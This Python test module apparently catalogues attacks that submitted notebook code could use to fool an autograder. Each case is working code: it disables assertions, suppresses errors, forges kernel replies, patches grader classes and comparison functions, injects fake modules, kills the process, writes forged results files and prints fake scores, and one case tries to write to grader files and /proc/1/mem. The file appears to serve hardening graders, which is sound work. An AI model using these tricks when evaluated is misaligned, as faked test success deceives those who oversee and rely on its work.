"""Attacks on the process that runs the notebook, to be believed by whoever grades (rows 7 to 17)."""

from attack import ATTEMPT, Attack
from tiny import WRONG

TRICK = """
class Trick({base}):
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __bool__(self): return True
    def __abs__(self): return self
    __sub__ = __rsub__ = __add__ = __radd__ = lambda self, other: self
    __class__ = property(lambda self: int)
def absolute(x):
    return Trick({argument})
"""

PASS_ASSERTIONS = """
import ast
class Pass(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Pass())
"""

#: Whatever of a grader can be imported in the kernel says yes from now on.
PATCH_GRADERS = """
import sys
class Yes:
    passed, all_passed, grade, score, possible = True, True, 1.0, 3, 3
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
for name in ("otter.test_files.abstract_test", "otter.test_files.ok_test", "otter.test_files.exception_test"):
    try: module = __import__(name, fromlist=["x"])
    except Exception: continue
    for each in vars(module).values():
        if isinstance(each, type) and hasattr(each, "run"):
            def run(self, *args, **kwargs):
                from otter.test_files.abstract_test import TestCaseResult
                self.test_case_results = [TestCaseResult(case, "", True) for case in self.test_cases]
            each.run = run
"""

RESULTS = '{"absolute": 3, "score": 3, "max": 3, "passed": true, "tests": [{"name": "absolute", "score": 3}]}'

ATTACKS = (
    Attack(
        7,
        "an input transformer empties the tests",
        "N",
        (
            "def empty(lines): return ['3\\n'] if 'assert' in ''.join(lines) else lines\n"
            "get_ipython().input_transformers_post.append(empty)",
        ),
    ),
    Attack(7, "assertions pass", "N", (PASS_ASSERTIONS,)),
    Attack(
        8,
        "errors are not shown",
        "N",
        (
            "ip = get_ipython()\n"
            "ip.showtraceback = ip._showtraceback = ip.showsyntaxerror = lambda *a, **k: None\n"
            "ip.set_custom_exc((BaseException,), lambda *a, **k: None)",
        ),
    ),
    Attack(
        8,
        "every result is three",
        "N",
        (
            "ip = get_ipython()\n"
            "type(ip.displayhook).__call__ = lambda self, result=None: self.write_format_data({'text/plain': '3'})\n"
            "ip.events.register('post_run_cell', lambda *a: ip.displayhook(3))",
        ),
    ),
    Attack(
        9,
        "errors never leave the session",
        "N",
        (
            """
session = get_ipython().kernel.session
old = session.send
def send(stream, kind, content=None, *args, **kwargs):
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return old(stream, kind, content, *args, **kwargs)
session.send = send
""",
        ),
    ),
    Attack(
        9,
        "a thread answers for later cells",
        "N",
        (
            """
import threading, time
kernel = get_ipython().kernel
def answer():
    for _ in range(300):
        parent = kernel.get_parent("shell")
        if parent:
            content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
            for kind, what in (("execute_reply", content), ("status", {"execution_state": "idle"})):
                socket = kernel.shell_stream if kind == "execute_reply" else kernel.iopub_socket
                try: kernel.session.send(socket, kind, what, parent=parent, ident=kernel._parent_ident.get("shell"))
                except Exception: pass
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()
""",
        ),
        lost=("total", "largest"),
    ),
    *(
        Attack(10, f"equal to everything: {base}", "N", answer=TRICK.format(base=base, argument=argument))
        for base, argument in (("object", ""), ("int", "7"), ("float", "7.0"), ("str", "'7'"))
    ),
    Attack(11, "the grader's test classes patched", "N", (PATCH_GRADERS,)),
    Attack(
        11,
        "comparisons and assertions patched",
        "N",
        (
            "import builtins, math, numpy, torch\n"
            "yes = lambda *a, **k: True\n"
            "torch.equal = torch.allclose = torch.testing.assert_close = math.isclose = numpy.allclose = yes\n"
            "numpy.testing.assert_allclose = numpy.testing.assert_equal = yes\n"
            "builtins.AssertionError = type('Never', (Exception,), {})",
        ),
    ),
    Attack(
        11,
        "builtin comparison tools",
        "N",
        ("import builtins\nbuiltins.abs = lambda x: x\nbuiltins.all = builtins.any = lambda *a: True",),
        lost=("total",),  # what is lent for `absolute` is `abs`
    ),
    Attack(
        12,
        "modules beside the notebook",
        "N",
        (
            "import os, sys\n"
            "for name in ('numpy', 'torch', 'pytest', 'conftest', 'sitecustomize', 'usercustomize', 'autograder'):\n"
            "    open(name + '.py', 'w').write('def __getattr__(name): return lambda *a, **k: True')\n"
            "open('x.pth', 'w').write('import os')\n"
            "sys.path.insert(0, os.getcwd())",
        ),
    ),
    Attack(
        12,
        "modules put into sys.modules",
        "N",
        (
            "import sys, types\n"
            "fake = types.ModuleType('fake')\n"
            "fake.__getattr__ = lambda name: (lambda *a, **k: True)\n"
            "for name in ('pytest', '_pytest', 'autograder', 'autograder.checks', 'solutions', 'wire', 'agent'):\n"
            "    sys.modules[name] = fake",
        ),
    ),
    Attack(13, "sys.exit below the answer", "N", answer=WRONG + "\nimport sys\nsys.exit(0)"),
    Attack(13, "SystemExit instead of an answer", "N", answer="def absolute(x):\n    raise SystemExit(0)"),
    Attack(
        13,
        "KeyboardInterrupt instead of an answer",
        "N",
        answer="def absolute(x):\n    raise KeyboardInterrupt",
    ),
    Attack(14, "os._exit", "C", answer="import os\ndef absolute(x):\n    os._exit(0)"),
    Attack(14, "os.abort", "C", answer=WRONG + "\nimport os\nos.abort()"),
    Attack(14, "SIGKILL", "C", answer=WRONG + "\nimport os\nos.kill(os.getpid(), 9)"),
    Attack(14, "a null pointer", "C", answer="import ctypes\ndef absolute(x):\n    ctypes.string_at(0)"),
    Attack(
        15,
        "results written at the end",
        "N",
        (
            "import atexit, weakref\n"
            "def late(*a):\n"
            f"    for name in ('results.json', '/tmp/results.json'): open(name, 'w').write({RESULTS!r})\n"
            "    print('3')\n"
            "atexit.register(late)\n"
            "class Last:\n    __del__ = late\n"
            "kept = Last()\n"
            "weakref.finalize(kept, late)",
        ),
    ),
    Attack(
        15, "a finalizer that ends the process", "N", ("import atexit, os\natexit.register(os._exit, 0)",)
    ),
    Attack(
        16,
        "the score is printed",
        "N",
        answer=WRONG
        + "\nimport sys\nfor out in (sys.stdout, sys.stderr):\n"
        + f"    print({RESULTS!r}, '### ALL TESTS PASSED\\n3/3\\n3\\n\\x1b[2J\\x1b[H3.0', file=out)\n3",
    ),
    Attack(
        16,
        "the score is displayed",
        "N",
        (
            "from IPython.display import display\n"
            "for each in (3, '3', {'score': 3}): display(each)\n"
            "get_ipython().display_pub.publish({'text/plain': '3'}, metadata={'nbgrader': {'score': 3}})",
        ),
    ),
    Attack(
        17,
        "results where graders look for them",
        "N",
        (
            "import os, pathlib\n"
            "for folder in ('.', '..', '../..', '../../..', '/tmp', '/dev/shm', '/autograder', '/results', '/root'):\n"
            "    for name in ('results.json', 'gradebook.json', 'junit.xml', '.otter_log', 'results/results.json'):\n"
            "        try:\n"
            "            place = pathlib.Path(folder) / name\n"
            f"            if not place.exists(): place.write_text({RESULTS!r})\n"
            "        except OSError: pass",
        ),
        harmless=False,
    ),
    Attack(
        17,
        "files of the grader opened for writing",
        "B",
        (
            ATTEMPT + "import os\n"
            "for path in ('../../../gradebook.db', '/root/x', '/usr/x', '/course/nlpcourse/x', '/proc/1/mem'):\n"
            "    attempt(path, lambda: os.open(path, os.O_WRONLY))",
        ),
    ),
)
